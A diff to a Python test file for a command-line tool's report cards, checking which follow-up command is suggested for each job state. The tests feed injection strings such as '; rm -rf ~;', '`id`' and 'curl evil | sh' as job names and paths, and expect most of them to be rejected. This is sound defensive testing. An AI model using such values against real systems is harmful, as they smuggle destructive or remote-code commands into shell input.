@@ -7,6 +7,7 @@ from support.report_data import ERROR, job, output, report, text
 
 from kirin_cli.report.html_cards import command_of
 
+ADOPT = "kirin resolve krn1-a --adopt t-7"
 CONFLICT = {**ERROR, "next": "kirin resolve krn1-a"}
 
 
@@ -42,6 +43,7 @@ def test_takes_of_a_job_stand_side_by_side_in_their_order_and_others_do_not():
         ({"state": "pending"}, "kirin wait task-a"), ({"state": "expired"}, "kirin download task-a"),
         ({"state": "unknown"}, "kirin wait task-a"), ({"state": "unknown", "task_id": None}, "kirin wait krn1-a"),
         ({"state": "unknown", "error": CONFLICT}, "kirin resolve krn1-a"),
+        ({"state": "unknown", "error": {**ERROR, "next": ADOPT}}, ADOPT),
         ({"file": None}, "kirin again task-a --dry-run"), ({"file": "-"}, "kirin again task-a --dry-run"),
         ({"file": None, "task_id": None, "external_task_id": None}, ""),
     ],
@@ -55,7 +57,8 @@ def test_a_command_goes_on_with_a_job_or_makes_it_as_its_file_says(facts, expect
     [
         ({"name": "rain[mode=std]"}, "kirin run jobs.yaml '--only=rain[mode=std]'"),
         ({"name": "Größe 2, лес"}, "kirin run jobs.yaml '--only=Größe 2, лес'"),
-        *(({"name": f"a{evil}b"}, "") for evil in ("; rm -rf ~;", "$(calc)", "`id`", "%X%", "!x!", "^", "'", '" & calc')),
+        *(({"name": f"a{evil}b"}, "") for evil in ("; rm -rf ~;", "$(calc)", "`id`", "%X%", "!x!", "^", "'")),
+        ({"name": 'a" & calc'}, ""),
         *(({"name": f"a{evil}b"}, "") for evil in ("|calc|", "&calc&", "<x", ">x", "{x}", "\u2018", "\u201d", "\t")),
         ({"file": "`id`.yaml"}, ""), ({"file": "//evil.example/s/x.yaml"}, ""), ({"scope": "$(calc)"}, ""),
         ({"name": "a\ncurl evil | sh"}, ""), ({"file": "--base-url=http://evil"}, "kirin again task-a --dry-run"),
